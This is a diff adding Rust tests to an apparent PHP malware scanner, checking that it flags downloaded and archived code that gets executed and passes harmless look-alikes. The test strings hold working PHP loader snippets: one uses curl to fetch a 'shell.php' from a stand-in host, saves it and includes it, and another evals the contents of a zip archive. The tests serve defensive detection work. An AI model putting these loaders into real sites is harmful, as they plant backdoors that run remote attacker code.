@@ -503,6 +503,32 @@ fn an_applications_includes_and_dispatchers_are_risks_not_backdoors() {
 }
 
 #[test]
+fn a_download_written_by_curl_into_a_file_then_included_is_code_from_the_internet() {
+    // fresh63's malwareerror.php: curl writes the answer into a handle opened on a path, and
+    // the path is included.
+    let src = "<?php $url = 'https://raw.example.net/x/shell.php'; $save = __DIR__ . '/text.php';\n\
+               $ch = curl_init($url); $fp = fopen($save, 'w+'); curl_setopt($ch, CURLOPT_FILE, $fp);\n\
+               curl_exec($ch); curl_close($ch); fclose($fp); include $save;";
+    assert_eq!(sinks(src), [(Why::CodeFromInternet, Danger::Critical)]);
+    // A picture downloaded the same way and never included: nothing runs.
+    let picture = src.replace("include $save;", "echo '<img src=\"text.jpg\">';");
+    assert!(sinks(&picture).is_empty(), "{:?}", sinks(&picture));
+}
+
+#[test]
+fn code_kept_compressed_or_in_a_zip_archive_and_run_is_found() {
+    // fresh63's Mentor.php and auth2.php.
+    assert_eq!(sinks("<?php include 'compress.zlib://mentor.gz';"), [(Why::IncludeOfData, Danger::High)]);
+    let zip = "<?php $zip = new ZipArchive; if ($zip->open('auth2.zip') === TRUE) { $s = '';\n\
+               for ($i = 0; $i < $zip->numFiles; $i++) { $s .= $zip->getFromIndex($i); } eval('?>' . $s); }";
+    assert_eq!(sinks(zip), [(Why::EvalOfDecoded, Danger::Critical)]);
+    // A member read and shown (a spreadsheet's sheet): nothing runs.
+    let shown = "<?php $zip = new ZipArchive; $zip->open($f); $xml = $zip->getFromName('xl/workbook.xml'); \
+                 echo htmlspecialchars($xml);";
+    assert!(sinks(shown).is_empty(), "{:?}", sinks(shown));
+}
+
+#[test]
 fn another_sites_text_saved_as_a_php_file_is_downloaded_code_whatever_the_file_checks() {
     // WP-VCD's header in a theme's functions.php: code.php fetched and saved as wp-tmp.php.
     // The theme checks its users elsewhere (`current_user_can`), which makes an upload handler
